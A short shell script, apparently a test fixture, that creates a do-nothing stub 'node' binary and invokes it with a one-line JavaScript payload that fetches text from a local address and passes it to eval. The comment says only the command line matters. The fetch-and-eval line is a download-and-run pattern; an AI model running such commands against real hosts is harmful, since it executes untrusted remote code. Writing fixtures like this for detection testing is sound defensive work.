# A make-believe node: what matters is the command line, nothing is done.
mkdir -p "$HOME/bin"
printf '#!/bin/sh\n' > "$HOME/bin/node"
chmod +x "$HOME/bin/node"
"$HOME/bin/node" -e "fetch('http://127.0.0.1:9/s').then(r => r.text()).then(eval)"
